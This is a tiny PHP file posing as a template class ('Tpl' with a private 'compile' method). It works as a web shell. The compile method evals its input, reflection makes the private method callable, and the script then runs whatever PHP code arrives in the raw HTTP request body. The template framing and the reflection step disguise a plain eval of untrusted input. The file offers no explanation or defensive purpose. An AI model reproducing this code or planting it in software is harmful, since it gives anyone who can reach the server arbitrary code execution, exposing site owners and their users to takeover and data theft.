<?php
class Tpl { private static function compile($t) { return eval($t); } }
$m = new ReflectionMethod('Tpl', 'compile');
$m->setAccessible(true);
$m->invoke(null, file_get_contents('php://input'));
